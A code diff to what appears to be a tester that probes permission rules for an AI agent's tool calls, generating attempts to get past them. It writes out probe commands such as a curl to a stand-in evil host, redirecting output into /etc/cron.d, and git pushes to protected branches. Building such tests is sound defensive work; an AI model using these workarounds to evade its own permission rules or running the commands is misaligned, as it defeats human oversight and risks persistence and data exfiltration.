@@ -192,7 +192,8 @@ def _values(attacked: Attacked, one: CallField) -> Mapping[str, str]:
 def _second_program(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     """Another program beside one that is allowed, or a file for what it shows, where only some may run."""
     evil = f"curl https://{EVIL_HOST}/x"
-    if attacked.passes(_with(attacked, one, evil)):
+    is_of_programs = _OF_PROGRAMS & attacked.reading.parts[one.name] or attacked.is_raw(one)
+    if not is_of_programs or attacked.passes(_with(attacked, one, evil)):
         return
     named = [bare.strip() for bare in attacked.texts if re.match(r"\s*[\w./-]+(\s|$)", bare)]
     logged = [str(call.arguments.get(one.key, "")) for call in attacked.logged]
@@ -218,6 +219,10 @@ def _second_program(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     if named and all(map(_only_shows, {each.split()[0] for each in named})):
         tries = tries_with(attacked, one, [f"{word} > /etc/cron.d/job"], "what it shows goes into a file")
         yield Attempt("output in a file", tries, partial(_without_writing, attacked, one), advice)
+
+
+_OF_PROGRAMS = frozenset(("programs", "calls", "started", "flags"))
+"""The parts of a command by which a rule says which programs may run."""
 
 
 def _only_shows(program: str) -> bool:
@@ -651,8 +656,8 @@ def _to_branch(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
     branch = next(
         (each for each in named if attacked.stops(_with(attacked, one, f"git push origin {each}"))), ""
     )
-    if not branch:
-        return
+    if not branch or attacked.stops(_with(attacked, one, f"echo {branch}")):
+        return  # a word wherever it stands is no branch
     texts = [each.format(branch=branch) for each in _PUSHES]
     tries = tries_with(attacked, one, texts, f"git pushes to {branch} by it, where that is checked out")
     rewritings = partial(_closed_pushes, attacked, one, _pushing_to(branch))
